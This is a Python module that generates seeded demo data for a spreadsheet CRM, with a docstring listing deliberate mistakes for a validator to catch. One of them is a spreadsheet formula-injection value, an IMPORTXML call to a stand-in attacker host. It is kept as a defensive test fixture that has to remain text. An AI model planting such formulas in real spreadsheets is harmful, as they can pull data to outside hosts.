"""Demo data for SheetCRM: a believable small business's workbook, generated from a seed.

``generate_demo(seed, customers, today)`` returns rows per tab name, each row a dict keyed by
column key (see ``sheet_schema/crm.toml``). It is pure: no I/O, no global random state (one
``random.Random(seed)`` and seeded Faker instances), so the same seed and ``today`` give the same
rows. It scales linearly: 50,000 customers (with deals and interactions in proportion) take
seconds. With the default 300 customers it makes about 400 deals, 1,000 interactions, 12 months of
marketing spend per paid source, 24 templates, 5 automations, 3 campaigns and the Settings rows.

What is in it
-------------
* Customers from Spain, Portugal, Brazil, Greece, the UK, the US and Germany (Faker locales
  es_ES, pt_PT, pt_BR, el_GR, en_GB, en_US, de_DE): names in their own script, real cities,
  phones valid for the country (phonenumbers) typed in national or international format, emails
  derived from the name (ASCII-folded; Greek names transliterated) at reserved ``example.*``
  domains, Country as an ISO code or a name, Language matching the country (German customers get
  English), a few 29 February birthdays and a few birthdays in the week after ``today``.
* IDs: rows typed in the last week (customers, deals, interactions) have none yet, nor do the
  Sources, Templates, Automations and Campaigns rows: the bot numbers them on its first cycle.
* Deals in a funnel (many Lead/Qualified, fewer Proposal/Negotiation, about 25% Won and 20% Lost
  with a lost reason and often a competitor), values in EUR, dates consistent with the stage.
* Interactions over the last year: calls, meetings, emails, notes, complaints (some unanswered)
  and Purchase rows with an Amount for every won deal (some customers buy again). Some customers
  were contacted last week, others not for months (dormant).
* Marketing sources with different costs and results: Google Ads, Website and Email pay off,
  Event loses money, Referral and Walk-in bring customers but have no cost rows.
* Input styles people really use: some dates as day-first text ("05/03/2025"), some amounts as
  text ("1.234,50"), some stages spelled differently ("negociación", "closed won"), booleans as
  "yes"/"sí", sources as "Adwords" or "FB".

Template variables
------------------
Templates (keys welcome, birthday, follow_up, anniversary, dormant, newsletter; languages en, es,
pt, el) are Jinja2 and use only:

* ``{{ customer.name }}``     the customer's full name
* ``{{ customer.company }}``  the customer's company (may be empty; templates test it with ``if``)
* ``{{ sender.name }}``       the Sender name setting
* ``{{ deal.title }}``        the deal's title (follow_up only)

Deliberate mistakes (for the validator to find)
-----------------------------------------------
1. Customers: an invalid email (the ``@`` forgotten: ``name.surnameexample.com``).
2. Customers: a phone with one digit missing.
3. Customers: two customers with the same email (a person typed twice).
4. Customers: a birthday in the future.
5. Customers: a half-typed row (only a name), the last row.
6. Deals: an impossible date, Expected close "31/02/2025".
7. Deals: an unknown stage "Wonn".
8. Deals: a deal referencing a customer ID that does not exist.
9. Interactions: a complaint typed by a customer (no manager) whose summary is
   ``=IMPORTXML("http://evil.example","//a")`` (it must stay text, never become a formula).
"""

from __future__ import annotations

import random
from datetime import date

from faker import Faker

from automations.demo.business import COUNTRIES
from automations.demo.customers import generate_customers
from automations.demo.deals import generate_deals
from automations.demo.interactions import generate_interactions
from automations.demo.marketing import (
    automation_rows,
    campaign_rows,
    source_cost_rows,
    template_rows,
)
from sheet_schema.default_settings import DEFAULT_SETTINGS

Rows = dict[str, list[dict[str, object]]]

# Per 300 customers: about 400 deals and 1,000 interactions (purchases included).
DEALS_PER_CUSTOMER = 4 / 3
INTERACTIONS_PER_CUSTOMER = 10 / 3
MIN_CUSTOMERS = 30  # room for every deliberate mistake and special birthday
SETTINGS_OVERRIDES: dict[str, str] = {
    "Time zone": "Europe/Madrid",
    "Default country": "ES",
    "Language": "en",
    "Currency": "EUR",
    "Date order": "DMY",
    "Sender email": "demo@example.com",
    "Sender name": "Costa Digital Studio",
}


def generate_demo(seed: int = 7, customers: int = 300, today: date | None = None) -> Rows:
    """Rows per tab name (keyed by column key) of a demo workbook; same seed, same rows.

    ``today`` anchors every date (default: the system's date). ``customers`` sets the size:
    deals and interactions follow in proportion. Raises ValueError below 30 customers.
    """
    if customers < MIN_CUSTOMERS:
        raise ValueError(f"the demo needs at least {MIN_CUSTOMERS} customers, got {customers}")
    today = today or date.today()
    rng = random.Random(seed)
    fakers = {c.region: _seeded_faker(c.locale, seed) for c in COUNTRIES}
    customer_rows, people = generate_customers(rng, fakers, customers, today)
    deal_rows, deals = generate_deals(rng, people, round(customers * DEALS_PER_CUSTOMER), today)
    interaction_rows = generate_interactions(
        rng, people, deals, round(customers * INTERACTIONS_PER_CUSTOMER), today
    )
    return {
        "Customers": customer_rows,
        "Deals": deal_rows,
        "Interactions": interaction_rows,
        "Sources": source_cost_rows(rng, customers, today),
        "Templates": template_rows(),
        "Automations": automation_rows(),
        "Campaigns": campaign_rows(today),
        "Settings": demo_settings(),
    }


def demo_settings() -> list[dict[str, object]]:
    """The Settings rows of the demo: every default setting, with the demo's values."""
    return [
        {"key": s.key, "value": SETTINGS_OVERRIDES.get(s.key, s.value), "notes": s.note}
        for s in DEFAULT_SETTINGS
    ]


def _seeded_faker(locale: str, seed: int) -> Faker:
    faker = Faker(locale)
    faker.seed_instance(seed)
    return faker
